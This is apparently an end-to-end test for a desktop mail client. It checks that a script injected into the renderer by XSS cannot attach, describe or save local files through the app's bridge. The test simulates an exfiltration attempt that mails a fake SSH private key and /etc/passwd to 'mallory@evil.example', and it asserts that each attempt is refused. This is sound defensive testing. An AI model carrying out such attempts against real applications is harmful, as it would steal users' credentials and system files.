/**
 * An XSS in the renderer is a page script with `window.quicksend` in reach. It must not be able
 * to name a file: paths in `mail:send`, `files:describe` and `drafts:save` are refused, a
 * guessed file id names nothing, and nothing reaches the mailbox. A real drop in the same page
 * still attaches (send-with-attachments.test.ts delivers dropped files byte for byte).
 */
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, expect, test } from 'vitest';
import {
  addSandboxAccount,
  compose,
  dropFiles,
  openSandboxWorld,
  type SandboxWorld,
} from '../support/e2e/sandbox-world';

let world: SandboxWorld | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

test('a page script calling window.quicksend with paths attaches, describes and keeps nothing', async () => {
  world = await openSandboxWorld({ undoDelaySeconds: 0 });
  const { page, app } = world;
  await addSandboxAccount(world, 'demo@quicksend.test');
  const home = mkdtempSync(path.join(os.tmpdir(), 'quicksend-home-'));
  mkdirSync(path.join(home, '.ssh'));
  const idRsa = path.join(home, '.ssh', 'id_rsa');
  writeFileSync(idRsa, 'FAKE PRIVATE KEY', { mode: 0o600 });
  const accountId = ((await world.call('accounts:list', {})) as Array<{ id: string }>)[0]!.id;

  const answers = await page.evaluate(
    async ({ idRsa, accountId, guess }) => {
      const q = window.quicksend as unknown as Record<string, Record<string, (request: unknown) => Promise<unknown>>>;
      const message = { accountId, to: ['mallory@evil.example'], subject: 'loot', text: 'x' };
      const draft = { accountId, to: [], cc: [], bcc: [], subject: 'loot', text: '' };
      return {
        send: await q.mail!.send!({ ...message, attachments: [{ path: idRsa }, { path: '/etc/passwd' }] }),
        sendGuess: await q.mail!.send!({ ...message, attachments: [{ fileId: guess }] }),
        describe: await q.files!.describe!({ paths: [idRsa, '/etc/passwd'] }),
        draft: await q.drafts!.save!({
          draft: { ...draft, attachments: [{ path: idRsa, name: 'id_rsa', sizeBytes: 16 }] },
        }),
        methods: Object.keys(q.files!).sort(),
      };
    },
    { idRsa, accountId, guess: randomBytes(16).toString('base64url') },
  );
  expect(answers.send).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
  expect(answers.sendGuess).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
  expect(answers.describe).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
  expect(answers.draft).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
  // The bridge offers no method that takes a path: dropped File objects only.
  expect(answers.methods).toEqual(['choose', 'describe', 'describeDropped']);
  expect(await world.call('drafts:get', {})).toBeNull();
  expect(await world.call('outbox:list', {})).toMatchObject({ items: [] });

  // The same page, used as the person uses it: a dropped file is attached and sent, alone.
  await compose(page, { to: ['ann@example.com'], subject: 'Dropped', text: 'One file.' });
  await dropFiles(page, [
    { name: 'notes.txt', type: 'text/plain', base64: Buffer.from('dropped by the person').toString('base64') },
  ]);
  await page.getByRole('button', { name: 'Remove attachment notes.txt' }).waitFor({ timeout: 15_000 });
  await page.getByRole('button', { name: /^Send/ }).click();
  const [received] = await app.sandbox.smtp.waitForMessages(1, 15_000);
  expect(received!.to).toEqual(['ann@example.com']);
  expect(app.sandbox.smtp.messages()).toHaveLength(1);
  expect(world.problems).toEqual([]);
}, 60_000);
